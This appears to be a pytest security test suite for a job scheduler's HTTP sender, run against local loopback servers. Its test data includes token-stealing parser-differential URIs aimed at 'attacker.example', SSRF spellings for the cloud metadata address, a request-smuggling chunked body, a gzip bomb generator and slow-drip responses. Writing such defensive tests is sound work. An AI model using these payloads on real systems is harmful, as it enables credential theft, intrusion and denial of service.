"""Attacks on the HTTP sender, each through the real path (``default_runner`` / ``HttpSender``, real TLS and
HTTP servers on 127.0.0.1; names resolved by the suite's DNS test double, ``FakeDns``):

- **token theft through a parser differential**: a stored job whose URI is read as one host by
  ``urlsplit`` and connected to another by ``requests``/urllib3 (``https://attacker.example\\@management.azure.com/``)
  must not hand the app's managed identity token to the host connected to;
- **request smuggling across tenants**: a job's framing headers never reach the wire, and no connection is
  shared between two calls, at a target that lets ``Transfer-Encoding`` win as nginx and Apache do;
- **a slow target**: an answer's head sent one byte at a time cannot hold an attempt past its deadline
  (the deadline bounds the whole call, every redirect hop, and says which part ran out);
- **credentials bound to the host**: a request carrying ``Authorization`` is never sent to another host
  than the one its credentials were made for, judged at the connection.
"""

from __future__ import annotations

import contextlib
import resource
import socket
import ssl
import tempfile
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from scheduler_core import settings
from scheduler_core.actions.http import HttpSender
from scheduler_core.actions.outbound import OutboundPolicy
from scheduler_core.actions.registry import default_runner
from scheduler_core.model.actions import (
    BasicAuthentication,
    HttpAction,
    ManagedServiceIdentityAuthentication,
    Secret,
)
from tests.actions.conftest import action_context
from tests.support.identity_endpoint import IdentityEndpoint
from tests.support.outbound_net import FakeDns
from tests.support.tls import TestCa

ARM = "https://management.azure.com/"


# ------------------------------------------------------------------------------------------- peers


@dataclass
class Captured:
    """One request a peer read: the connection it came on (a number per accepted connection), its request
    line and its headers (names lower-case)."""

    connection: int
    line: str
    headers: dict[str, str]


@dataclass
class Peer:
    port: int
    seen: list[Captured] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def captured(self) -> list[Captured]:
        with self.lock:
            return list(self.seen)


def _read_head(stream: socket.socket, buffer: bytearray) -> bytes | None:
    while b"\r\n\r\n" not in buffer:
        chunk = stream.recv(65536)
        if not chunk:
            return None
        buffer.extend(chunk)
    head, _, rest = bytes(buffer).partition(b"\r\n\r\n")
    buffer[:] = rest
    return head


def _read_exactly(stream: socket.socket, buffer: bytearray, count: int) -> bytes | None:
    while len(buffer) < count:
        chunk = stream.recv(65536)
        if not chunk:
            return None
        buffer.extend(chunk)
    data = bytes(buffer[:count])
    del buffer[:count]
    return data


def _read_chunked(stream: socket.socket, buffer: bytearray) -> bool:
    """Reads a chunked body (Transfer-Encoding wins over Content-Length, as nginx and Apache read it)."""
    while True:
        while b"\r\n" not in buffer:
            chunk = stream.recv(65536)
            if not chunk:
                return False
            buffer.extend(chunk)
        size_line, _, rest = bytes(buffer).partition(b"\r\n")
        buffer[:] = rest
        size = int(size_line.split(b";")[0].strip() or b"0", 16)
        if size == 0:
            return _read_exactly(stream, buffer, 2) is not None  # the final CRLF (no trailers)
        if _read_exactly(stream, buffer, size + 2) is None:
            return False


#: Handles one accepted connection: the socket (closed afterwards) and its number (1, 2, ... per server).
Handle = Callable[[socket.socket, int], None]


@contextmanager
def loopback_server(handle: Handle, wrap: Callable[[socket.socket], socket.socket] | None = None) -> Iterator[int]:
    """A server on 127.0.0.1 (its port yielded) running ``handle`` on a thread of its own for each connection
    it accepts, until the block ends; ``wrap`` (a TLS context's ``wrap_socket``) is applied to each first."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(32)
    listener.settimeout(0.2)
    stop = threading.Event()
    numbers = iter(range(1, 100_000))

    def run(conn: socket.socket, number: int) -> None:
        with conn, contextlib.suppress(OSError, ssl.SSLError):  # a client that gave up: often the point
            handle(conn, number)

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            try:
                conn = wrap(conn) if wrap is not None else conn
            except (OSError, ssl.SSLError):
                conn.close()
                continue
            threading.Thread(target=run, args=(conn, next(numbers)), daemon=True).start()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield listener.getsockname()[1]
    finally:
        stop.set()
        thread.join(5)
        listener.close()


@contextmanager
def one_shot_server(answer: Callable[[bytes], bytes]) -> Iterator[int]:
    """A server on 127.0.0.1 answering each request with ``answer(request head)`` and closing."""

    def serve(conn: socket.socket, number: int) -> None:
        conn.sendall(answer(_read_head(conn, bytearray()) or b""))

    with loopback_server(serve) as port:
        yield port


@contextmanager
def keep_alive_peer(wrap: Callable[[socket.socket], socket.socket] | None = None) -> Iterator[Peer]:
    """An HTTP/1.1 server on 127.0.0.1 that keeps connections open and reads each request's body as
    ``Transfer-Encoding: chunked`` when that header is present, else by ``Content-Length``; it answers
    each request ``200`` with a short body. ``wrap`` makes it a TLS server."""
    peer = Peer(0)

    def serve(conn: socket.socket, number: int) -> None:
        buffer = bytearray()
        conn.settimeout(10)
        while True:
            head = _read_head(conn, buffer)
            if head is None:
                return
            line, *lines = head.decode("latin-1").split("\r\n")
            headers = {}
            for item in lines:
                name, _, value = item.partition(":")
                headers[name.strip().lower()] = value.strip()
            with peer.lock:
                peer.seen.append(Captured(number, line, headers))
            length = int(headers.get("content-length") or 0)
            if "chunked" in headers.get("transfer-encoding", "").lower():
                complete = _read_chunked(conn, buffer)
            else:
                complete = not length or _read_exactly(conn, buffer, length) is not None
            if not complete:
                return
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: keep-alive\r\n\r\nok")

    with loopback_server(serve, wrap) as port:
        peer.port = port
        yield peer


def server_context(ca: TestCa, names: list[str], folder: Path) -> ssl.SSLContext:
    """A TLS server context with a certificate from ``ca`` valid for ``names``."""
    cert_path, key_path = ca.issue(names[0], server=True, names=names).write_pem(folder, "sink")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert_path, key_path)
    return context


@contextmanager
def tls_sink(ca: TestCa, names: list[str]) -> Iterator[Peer]:
    """A TLS server on 127.0.0.1 holding a valid certificate for ``names`` (as an attacker's host holds
    one for its own name), recording every request it is sent."""
    with tempfile.TemporaryDirectory() as folder:
        context = server_context(ca, names, Path(folder))
        with keep_alive_peer(lambda conn: context.wrap_socket(conn, server_side=True)) as peer:
            yield peer


# --------------------------------------------------------------------------------- the app's token

#: URIs that name management.azure.com to ``urlsplit`` while ``requests`` connects to attacker.example
#: ({port}: the sink's). Each is refused at write; these are jobs stored before that rule.
DIFFERENTIAL_URIS = {
    "backslash before @": "https://attacker.example:{port}\\@management.azure.com/x",
    "backslash, then a path": "https://attacker.example:{port}\\@management.azure.com:443/subscriptions?api-version=1",
    "two backslashes": "https://attacker.example:{port}\\\\@management.azure.com/",
}


@pytest.mark.parametrize("spelling", sorted(DIFFERENTIAL_URIS))
def test_the_apps_token_never_goes_to_the_host_connected_to_when_the_uri_names_another(
    test_ca: TestCa, trust_test_ca: Path, platform: IdentityEndpoint, spelling: str
) -> None:
    dns = FakeDns()
    dns.add("attacker.example", ["127.0.0.1"])
    config = settings.load({"AzureWebJobsStorage__accountName": "acct"})
    with tls_sink(test_ca, ["attacker.example"]) as sink:
        uri = DIFFERENTIAL_URIS[spelling].format(port=sink.port)
        action = HttpAction(uri, "GET", authentication=ManagedServiceIdentityAuthentication(ARM))
        result = default_runner(config, resolver=dns.resolve).run(action, action_context())
        time.sleep(0.2)  # a request on its way would have arrived by now
        captured = sink.captured()
    tokens = [c.headers.get("authorization", "") for c in captured if "mi-token" in c.headers.get("authorization", "")]
    assert tokens == [], f"the app's token went to attacker.example: {tokens}"
    assert platform.seen() == [], "no token may even be asked for a host the audience does not name"
    assert not result.succeeded
    assert "'attacker.example'" in result.message, result.message  # the history names the host connected to
    assert "management.azure.com' not sent" not in result.message


def test_the_token_still_goes_to_the_audiences_own_host(
    test_ca: TestCa, trust_test_ca: Path, platform: IdentityEndpoint
) -> None:
    """The control: a well-formed URI on the audience's host gets the token (here that host is served by
    the TLS sink, as the test DNS names it)."""
    dns = FakeDns()
    dns.add("management.azure.com", ["127.0.0.1"])
    config = settings.load({"AzureWebJobsStorage__accountName": "acct"})
    with tls_sink(test_ca, ["management.azure.com"]) as sink:
        action = HttpAction(
            f"https://management.azure.com:{sink.port}/x",
            "GET",
            authentication=ManagedServiceIdentityAuthentication(ARM),
        )
        result = default_runner(config, resolver=dns.resolve).run(action, action_context())
        captured = sink.captured()
    assert result.succeeded, result.message
    assert [c.headers["authorization"] for c in captured] == [f"Bearer {IdentityEndpoint.token_for(ARM, 1)}"]


def test_a_basic_password_goes_only_to_the_host_connected_to_and_the_history_names_that_host(
    test_ca: TestCa,
    trust_test_ca: Path,
) -> None:
    """A stored URI of the differential: the credentials are the job's own, so they go with the call, but to
    the host the call really connects to, which the history names (not the host ``urlsplit`` reads)."""
    dns = FakeDns()
    dns.add("attacker.example", ["127.0.0.1"])
    with tls_sink(test_ca, ["attacker.example"]) as sink:
        uri = f"https://attacker.example:{sink.port}\\@victim.example/x"
        action = HttpAction(uri, "GET", authentication=BasicAuthentication("alice", Secret("pw")))
        result = HttpSender(policy=OutboundPolicy(resolver=dns.resolve), timeout=5).send(action, action_context())
    assert result.succeeded, result.message
    assert "Response from host 'attacker.example'" in result.message
    assert "victim.example" not in result.message


@pytest.mark.parametrize(
    "uri",
    [
        "http://169.254.169.254\\@127.0.0.1/latest/meta-data/",
        "http://imds.test\\@127.0.0.1/",
        "http://imds.test:80\\@localhost:8080/",
        "http://[::ffff:169.254.169.254]\\@127.0.0.1/",
    ],
)
def test_the_outbound_policy_judges_the_host_connected_to_whatever_another_parser_reads(uri: str) -> None:
    """The policy is applied where the socket is opened, so a differential spelling that ``urlsplit`` reads
    as loopback is still refused for the metadata address it connects to, and the history names that host."""
    dns = FakeDns()
    dns.add("imds.test", ["169.254.169.254"])
    result = HttpSender(policy=OutboundPolicy(resolver=dns.resolve), timeout=5).send(
        HttpAction(uri, "GET"), action_context()
    )
    assert not result.succeeded
    assert "refused by the outbound policy" in result.message, result.message
    assert "169.254.169.254" in result.message
    assert "host '127.0.0.1'" not in result.message and "host 'localhost'" not in result.message


# ---------------------------------------------------------------------------------- request smuggling

SMUGGLED_BODY = "0\r\n\r\nGET /SMUGGLED HTTP/1.1\r\nX-Ignore: "


def test_a_jobs_framing_headers_never_reach_the_wire_and_no_connection_is_shared() -> None:
    """Subscription A's job sets ``Transfer-Encoding: chunked`` with a body that ends a chunked message and
    starts a request of its own; subscription B's job then calls the same host with Basic credentials. At a
    target that lets Transfer-Encoding win, B's request must arrive whole, on a connection of its own, and no
    ``/SMUGGLED`` request may appear."""
    sender = HttpSender(timeout=5)
    with keep_alive_peer() as peer:
        base = f"http://127.0.0.1:{peer.port}"
        tenant_a = HttpAction(
            f"{base}/a",
            "POST",
            headers={"Transfer-Encoding": "chunked", "Connection": "keep-alive", "Content-Type": "text/plain"},
            body=SMUGGLED_BODY,
        )
        tenant_b = HttpAction(f"{base}/b", "GET", authentication=BasicAuthentication("bob", Secret("b-secret")))
        first = sender.send(tenant_a, action_context("exec-a"))
        second = sender.send(tenant_b, action_context("exec-b"))
        time.sleep(0.2)
        captured = peer.captured()
    lines = [c.line for c in captured]
    assert not any("SMUGGLED" in line for line in lines), lines
    assert lines == ["POST /a HTTP/1.1", "GET /b HTTP/1.1"], lines
    a, b = captured
    assert "transfer-encoding" not in a.headers  # the job's header was dropped: the sender frames the body
    assert a.headers["content-length"] == str(len(SMUGGLED_BODY))
    assert b.headers["authorization"].startswith("Basic ")
    assert a.connection != b.connection, "two calls shared one connection"
    assert first.succeeded and second.succeeded, (first.message, second.message)


def test_no_connection_is_shared_between_two_calls_of_the_same_job() -> None:
    sender = HttpSender(timeout=5)
    with keep_alive_peer() as peer:
        for number in range(3):
            assert sender.send(
                HttpAction(f"http://127.0.0.1:{peer.port}/x", "GET"), action_context(f"e{number}")
            ).succeeded
        connections = [c.connection for c in peer.captured()]
    assert len(connections) == 3 and len(set(connections)) == 3, connections


def test_calls_made_at_once_from_many_threads_each_have_a_connection_of_their_own() -> None:
    """One sender called from eight threads at once, five calls each, as the worker's threads call it: every
    call arrives on a connection of its own, whatever thread made the call before."""
    sender = HttpSender(timeout=5)
    failures: list[str] = []
    with keep_alive_peer() as peer:

        def calls(thread: int) -> None:
            for number in range(5):
                context = action_context(f"e{thread}-{number}")
                result = sender.send(HttpAction(f"http://127.0.0.1:{peer.port}/x", "GET"), context)
                if not result.succeeded:
                    failures.append(result.message)

        threads = [threading.Thread(target=calls, args=(n,)) for n in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
        connections = [c.connection for c in peer.captured()]
    assert failures == []
    assert len(connections) == 40 and len(set(connections)) == 40, connections


def test_a_cookie_set_for_one_call_is_not_sent_on_the_next() -> None:
    """A target that sets a cookie for one job's call: the next call (another job, another tenant) to the
    same host carries no cookie."""
    heads: list[bytes] = []

    def answer(head: bytes) -> bytes:
        heads.append(head)
        return b"HTTP/1.1 200 OK\r\nSet-Cookie: session=tenant-a\r\nContent-Length: 0\r\n\r\n"

    sender = HttpSender(timeout=5)
    with one_shot_server(answer) as port:
        url = f"http://127.0.0.1:{port}/"
        assert sender.send(HttpAction(url, "GET"), action_context("e1")).succeeded
        assert sender.send(HttpAction(url, "GET"), action_context("e2")).succeeded
    assert len(heads) == 2
    assert b"cookie" not in heads[1].lower(), heads[1]


# ------------------------------------------------------------------------------------------- deadlines


@contextmanager
def trickle_server(answer: bytes, pause: float, redirect_to: str | None = None) -> Iterator[str]:
    """A server on 127.0.0.1 that sends ``answer`` one byte every ``pause`` seconds (its head too), or, with
    ``redirect_to``, answers at once with a 302 to there."""

    def serve(conn: socket.socket, number: int) -> None:
        _read_head(conn, bytearray())
        if redirect_to is not None:
            conn.sendall(f"HTTP/1.1 302 Found\r\nLocation: {redirect_to}\r\nContent-Length: 0\r\n\r\n".encode())
            return
        for i in range(len(answer)):
            conn.sendall(answer[i : i + 1])
            time.sleep(pause)

    with loopback_server(serve) as port:
        yield f"http://127.0.0.1:{port}/slow"


SLOW_HEAD = (
    b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nX-Padding: " + b"p" * 80 + b"\r\nContent-Length: 2\r\n\r\nok"
)


def test_an_answer_head_sent_one_byte_at_a_time_cannot_hold_the_attempt_past_its_deadline() -> None:
    """Every byte arrives well within the read timeout, so only a deadline for the whole call ends it: at
    0.1 s a byte the head alone takes 13 s; the call's deadline is 1.5 s."""
    with trickle_server(SLOW_HEAD, pause=0.1) as url:
        started = time.monotonic()
        result = HttpSender(timeout=1.5).send(HttpAction(url, "GET"), action_context())
        took = time.monotonic() - started
    assert not result.succeeded
    assert "timed out after 1.5 s" in result.message, result.message
    assert "while waiting for the answer's head from '127.0.0.1'" in result.message, result.message
    assert took < 3.0, f"the call took {took:.1f} s past a 1.5 s deadline"


def test_the_deadline_covers_every_redirect_hop() -> None:
    with trickle_server(SLOW_HEAD, pause=0.1) as slow, trickle_server(b"", 0, redirect_to=slow) as first:
        started = time.monotonic()
        result = HttpSender(timeout=1.5).send(HttpAction(first, "GET"), action_context())
        took = time.monotonic() - started
    assert not result.succeeded
    assert "timed out after 1.5 s" in result.message and "(redirect hop 2)" in result.message, result.message
    assert took < 3.0


def test_a_slow_body_is_named_as_such() -> None:
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: 400\r\n\r\n"

    def serve(conn: socket.socket, number: int) -> None:
        _read_head(conn, bytearray())
        conn.sendall(answer)
        for _ in range(400):
            conn.sendall(b"b")
            time.sleep(0.05)

    with loopback_server(serve) as port:
        result = HttpSender(timeout=1.0).send(HttpAction(f"http://127.0.0.1:{port}/", "GET"), action_context())
    assert not result.succeeded
    assert "while reading the answer's body from '127.0.0.1'" in result.message, result.message


def test_many_slow_calls_each_end_at_their_deadline_in_parallel() -> None:
    """Twenty calls at once to a target trickling its head: every one ends near its 1 s deadline, so a slow
    target holds a worker thread for the deadline and no longer."""
    durations: list[float] = []
    lock = threading.Lock()
    with trickle_server(SLOW_HEAD, pause=0.2) as url:
        sender = HttpSender(timeout=1.0)

        def one() -> None:
            started = time.monotonic()
            result = sender.send(HttpAction(url, "GET"), action_context())
            assert not result.succeeded
            with lock:
                durations.append(time.monotonic() - started)

        threads = [threading.Thread(target=one) for _ in range(20)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(15)
    assert len(durations) == 20
    assert max(durations) < 3.0, durations


# ------------------------------------------------------------------------------------------ charsets


def test_a_body_without_a_charset_is_read_as_utf8_not_latin1() -> None:
    text = "Grüße, 東京"
    body = text.encode()
    answer = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    with trickle_server(answer, pause=0.0) as url:
        result = HttpSender(timeout=5).send(HttpAction(url, "GET"), action_context())
    assert result.succeeded
    assert result.message.startswith(f"200 OK: {text} | Http Action"), result.message


def test_a_body_with_a_charset_is_read_in_it() -> None:
    text = "Grüße"
    body = text.encode("latin-1")
    answer = (
        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; charset=ISO-8859-1\r\nContent-Length: %d\r\n\r\n" % len(body)
        + body
    )
    with trickle_server(answer, pause=0.0) as url:
        result = HttpSender(timeout=5).send(HttpAction(url, "GET"), action_context())
    assert result.message.startswith(f"200 OK: {text} | Http Action"), result.message


# ----------------------------------------------------------------- what a hostile target sends back


def gzip_bomb(mebibytes: int, layers: int) -> bytes:
    """``mebibytes`` of zeros, gzip-compressed ``layers`` times."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b"\0" * (1 << 20)
    data = b"".join(compressor.compress(block) for _ in range(mebibytes)) + compressor.flush()
    for _ in range(layers - 1):
        again = zlib.compressobj(9, zlib.DEFLATED, 31)
        data = again.compress(data) + again.flush()
    return data


def test_a_compressed_redirect_body_is_never_decoded() -> None:
    """A 302 whose body is 512 MiB of zeros gzipped three times (a few hundred bytes on the wire): requests
    reads a redirect's body whole before following it; the sender never reads it."""
    bomb = gzip_bomb(512, 3)

    def answer(head: bytes) -> bytes:
        if head.startswith(b"GET /final"):
            return b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
        return (
            b"HTTP/1.1 302 Found\r\nLocation: /final\r\nContent-Encoding: gzip,gzip,gzip\r\n"
            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(bomb) + bomb
        )

    with one_shot_server(answer) as port:
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        result = HttpSender(timeout=5).send(HttpAction(f"http://127.0.0.1:{port}/", "GET"), action_context())
        took = time.monotonic() - started
        grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert result.succeeded, result.message
    assert took < 2.0, f"{took:.1f} s"
    assert grown_mib < 100, f"the peak memory grew by {grown_mib:.0f} MiB"


def test_a_hostile_content_type_costs_nothing_and_the_history_keeps_a_bounded_part_of_the_headers() -> None:
    """Four Content-Type lines of 30 KB of ';' (a MIME parser's worst case took minutes) and 120 KB of
    headers: the charset is read from a bounded prefix, and the history keeps 2 KB of the headers."""
    junk = b"text/plain" + b";" * 30_000

    def answer(head: bytes) -> bytes:
        lines = b"".join(b"Content-Type: " + junk + b"\r\n" for _ in range(4))
        return b"HTTP/1.1 200 OK\r\n" + lines + b"Content-Length: 2\r\nConnection: close\r\n\r\nok"

    with one_shot_server(answer) as port:
        started = time.process_time()
        result = HttpSender(timeout=2).send(HttpAction(f"http://127.0.0.1:{port}/", "GET"), action_context())
        cpu = time.process_time() - started
    assert result.succeeded, result.message
    assert cpu < 1.0, f"{cpu:.1f} s of CPU"
    assert len(result.message) < 2048 + 600, len(result.message)
    assert result.message.endswith("… (headers cut at 2,048 characters)"), result.message[-100:]


def test_a_slow_name_lookup_ends_at_the_deadline() -> None:
    """Whoever runs the target's DNS can make a lookup last: the lookup is bounded by the call's deadline,
    on the first hop and on a redirect's."""

    def slow(host: str) -> list[str]:
        if host.startswith("slow."):
            time.sleep(6)
        return ["127.0.0.1"]

    def answer(head: bytes) -> bytes:
        return b"HTTP/1.1 302 Found\r\nLocation: http://slow.attacker.test/hop\r\nContent-Length: 0\r\n\r\n"

    sender = HttpSender(policy=OutboundPolicy(resolver=slow), timeout=1.5)
    with one_shot_server(answer) as port:
        for uri, hop in (
            (f"http://slow.attacker.test:{port}/x", ""),
            (f"http://127.0.0.1:{port}/start", " (redirect hop 2)"),
        ):
            started = time.monotonic()
            result = sender.send(HttpAction(uri, "GET"), action_context())
            took = time.monotonic() - started
            assert not result.succeeded
            assert f"while looking up 'slow.attacker.test'{hop}" in result.message, result.message
            assert took < 3.0, f"{took:.1f} s"
